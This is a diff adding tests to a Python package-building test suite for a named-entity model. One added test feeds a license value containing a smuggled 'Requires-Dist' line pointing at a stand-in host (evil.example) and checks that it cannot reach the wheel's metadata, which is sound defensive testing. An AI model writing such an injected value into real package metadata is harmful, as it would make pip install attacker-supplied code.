@@ -65,6 +65,18 @@ def test_a_wheel_names_its_files_and_the_facts_of_the_card(saved, tmp_path):
     assert "my_ner/py.typed" in contents  # type checkers read the annotations
 
 
+def test_metadata_of_a_card_cannot_add_fields_to_those_for_pip(saved, tmp_path):
+    """`License: mit` followed by `Requires-Dist: …` would install any package."""
+    for license in ("mit\nRequires-Dist: evil @ https://evil.example/x.whl", "evil", "cc-by-4.0"):
+        card = f"---\nlicense: {json.dumps(license)}\n---\nRequires-Dist: evil\n\nÀ suivre.\nFrom here\n"
+        (saved / "README.md").write_text(card, encoding="utf-8")
+        with zipfile.ZipFile(wheel_of(saved, tmp_path)) as archive:
+            metadata = message_from_bytes(archive.read("my_ner-1.2.dist-info/METADATA"))
+        assert metadata["License"] == ("cc-by-4.0" if license == "cc-by-4.0" else "other")
+        assert not [name for name in metadata.get_all("Requires-Dist") if "evil" in name]
+        assert metadata.get_payload(decode=True).decode() == "Requires-Dist: evil\n\nÀ suivre.\nFrom here\n"
+
+
 def test_a_wheel_tags_where_nothing_else_can_be_imported(saved, tmp_path):
     with zipfile.ZipFile(wheel_of(saved, tmp_path)) as archive:
         archive.extractall(tmp_path / "site")
@@ -79,6 +91,9 @@ def test_a_wheel_tags_where_nothing_else_can_be_imported(saved, tmp_path):
     done = subprocess.run(command, input=b"Zo\xeb\n", capture_output=True, timeout=60)
     assert done.returncode == 1 and b"Traceback" not in done.stderr
     if os.name == "posix":
+        close = lambda: [os.close(stream) for stream in range(3)]  # noqa: E731
+        for words in ([TEXT], []):
+            assert subprocess.run([*command, *words], preexec_fn=close, timeout=60).returncode == 0
         reader, closed = os.pipe()
         os.close(reader)
         assert subprocess.run([*command, TEXT], stdout=closed, stderr=subprocess.PIPE, timeout=60).stderr == b""
